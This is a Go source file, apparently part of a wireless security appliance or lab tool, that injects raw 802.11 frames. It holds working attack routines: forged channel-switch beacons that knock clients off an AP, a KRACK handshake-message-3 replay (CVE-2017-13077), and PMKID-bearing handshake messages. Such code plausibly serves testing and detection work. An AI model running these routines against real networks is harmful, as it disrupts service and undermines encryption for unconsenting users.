package air

import (
	"context"
	"errors"
	"fmt"
	"time"

	"picket/appliance/dissect/dot11"
	"picket/shared/task"
	"picket/shared/wlan"
)

// Air is a monitor interface: Socket, or a test's.
type Air interface {
	// Send sends one frame.
	Send(frame []byte) error

	// Receive returns the next frame heard, valid until the call after. It
	// ends with ctx.
	Receive(ctx context.Context) ([]byte, error)
}

// Sent tells what was sent.
type Sent struct {
	Frames      uint64
	Refused     uint64 // by the kernel
	First, Last time.Time
}

func (s *Sent) add(at time.Time) {
	if s.Frames++; s.Frames == 1 {
		s.First = at
	}
	s.Last = at
}

const (
	beaconSpacing = 30 * time.Millisecond  // of forged beacons: between those of the real AP
	replaySpacing = 300 * time.Millisecond // hostapd itself waits longer
	beaconPeriod  = 102400 * time.Microsecond
)

// send sends a frame and counts it.
func (s *Sent) send(a Air, frame []byte) error {
	if err := a.Send(frame); err != nil {
		s.Refused++
		return err
	}
	s.add(time.Now())
	return nil
}

// CSA waits for a beacon of bssid, and sends it count times with the announcement
// that the BSS moves to another channel.
func CSA(ctx context.Context, a Air, bssid wlan.BSSID, to wlan.MHz, count int) (Sent, error) {
	var sent Sent
	beacon, err := waitFor(ctx, a, func(f *dot11.Frame, _ []byte) bool { return f.Kind == dot11.Beacon && f.Transmitter == bssid })
	if err != nil {
		return sent, fmt.Errorf("a beacon of %v to forge: %w", bssid, err)
	}
	const mode = 1 // nobody may transmit until then
	forged := element(append([]byte(nil), beacon...), elemChannelSwitch, mode, channelNumber(to), 0)
	for i := range count {
		setSequence(forged, uint16(3000+i))
		forged[len(forged)-1] = byte(max(0, 5-i)) // beacons until the switch
		if err := sent.send(a, forged); err != nil {
			return sent, err
		}
		if err := task.Sleep(ctx, beaconSpacing); err != nil {
			return sent, err
		}
	}
	return sent, nil
}

func setSequence(frame []byte, sequence uint16) {
	frame[22], frame[23] = byte(sequence<<4), byte(sequence>>4)
}

// ReplayM3 waits for message 3 of a handshake of station with bssid and sends it
// again count times: what makes a client that is not mended use a nonce twice
// (KRACK, CVE-2017-13077).
func ReplayM3(ctx context.Context, a Air, bssid wlan.BSSID, station wlan.MAC, count int) (Sent, error) {
	var sent Sent
	var third []byte
	_, err := waitFor(ctx, a, func(f *dot11.Frame, frame []byte) bool {
		again, err := replayed(frame, bssid, station, 2000)
		third = again
		return err == nil
	})
	if err != nil {
		return sent, fmt.Errorf("message 3 from %v to %v: %w", bssid, station, err)
	}
	for i := range count {
		if err := task.Sleep(ctx, replaySpacing); err != nil {
			return sent, err
		}
		setSequence(third, uint16(2000+i))
		if err := sent.send(a, third); err != nil {
			return sent, err
		}
	}
	return sent, nil
}

// waitFor returns a copy of the next frame that is wanted.
func waitFor(ctx context.Context, a Air, wanted func(*dot11.Frame, []byte) bool) ([]byte, error) {
	var f dot11.Frame
	for {
		frame, err := a.Receive(ctx)
		if err != nil {
			return nil, err
		}
		if dot11.Decode(frame, &f) == nil && wanted(&f, frame) {
			return append([]byte(nil), frame...), nil
		}
	}
}

// PMKID sends message 1 of the handshake count times, with a PMKID in it: what an
// AP tells an attacker that asks for it.
func PMKID(ctx context.Context, a Air, bssid wlan.BSSID, station wlan.MAC, seed uint64, count int) (Sent, error) {
	var sent Sent
	draw := newDraw(seed)
	var nonce [32]byte
	var pmkid [16]byte
	draw.fill(nonce[:])
	draw.fill(pmkid[:])
	for i := range count {
		if err := sent.send(a, HandshakeOne(nil, bssid, station, uint64(i+1), nonce, pmkid, uint16(i))); err != nil {
			return sent, err
		}
		if err := task.Sleep(ctx, replaySpacing/3); err != nil {
			return sent, err
		}
	}
	return sent, nil
}

// Beacons sends a beacon every 100 TU for a time, as an AP does, and answers probe
// requests that mean it. It is how the laboratory has APs that no program here can
// be: those of Wi-Fi 7.
func Beacons(ctx context.Context, a Air, w Beacon, span time.Duration) (Sent, error) {
	var sent Sent
	start := time.Now()
	heard, stop := listen(ctx, a)
	defer stop()
	next := start
	var f dot11.Frame
	var e dot11.Elements
	for {
		timer := time.NewTimer(time.Until(next))
		select {
		case <-ctx.Done():
			timer.Stop()
			return sent, ctx.Err()
		case <-timer.C:
			if time.Since(start) >= span {
				return sent, nil
			}
			next = next.Add(beaconPeriod)
			w.Sequence++
			w.TSF = TSFNow(time.Now())
			if err := sent.send(a, w.Append(nil)); err != nil {
				return sent, err
			}
		case frame, ok := <-heard:
			timer.Stop()
			if !ok {
				return sent, errors.Join(errors.New("nothing more is heard"), ctx.Err())
			}
			if dot11.Decode(frame, &f) != nil || f.Kind != dot11.ProbeRequest || f.Transmitter == w.BSSID {
				continue
			}
			_ = e.Decode(frame[f.HeaderLen:])
			if name := e.Name(); name != nil && string(name) != w.SSID {
				continue
			}
			w.Sequence++
			w.TSF = TSFNow(time.Now())
			if err := sent.send(a, w.AppendProbeResponse(nil, f.Transmitter)); err != nil {
				return sent, err
			}
		}
	}
}

// listen hands over copies of what is heard. What nobody takes in time is lost:
// those who listen this way want probes, of which there are more.
func listen(ctx context.Context, a Air) (<-chan []byte, func()) {
	ctx, cancel := context.WithCancel(ctx)
	heard := make(chan []byte, 64)
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer close(heard)
		for {
			frame, err := a.Receive(ctx)
			if err != nil {
				return
			}
			select {
			case heard <- append([]byte(nil), frame...):
			default:
			}
		}
	}()
	return heard, func() { cancel(); <-done }
}
